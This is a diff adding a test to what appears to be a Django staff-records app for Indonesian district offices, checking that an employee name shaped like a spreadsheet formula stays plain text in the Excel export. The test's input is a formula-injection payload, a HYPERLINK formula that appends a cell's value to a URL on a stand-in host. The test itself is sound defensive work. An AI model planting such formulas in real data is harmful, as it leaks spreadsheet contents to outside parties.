@@ -86,3 +86,14 @@ def test_scaffold_builds_standard_offices_once_with_lurah_reporting_to_camat(db:
     assert kasi is not None and kasi.reports_to is not None
     assert kasi.reports_to.title == "Sekretaris Camat"
     assert Unit.objects.get(code="13.71").kind == Unit.Kind.BAGIAN_TAPEM
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_exports(
+    client: Client, padang: Padang, pimpinan_padang: User
+) -> None:
+    make_employee(padang.kantor_lurah_bt, '=HYPERLINK("http://contoh.invalid/?"&A5,"klik")')
+    client.force_login(pimpinan_padang)
+    sheet = load_workbook(io.BytesIO(client.get("/pegawai/unduh.xlsx").content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=4) if str(row[1].value).startswith("=")]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
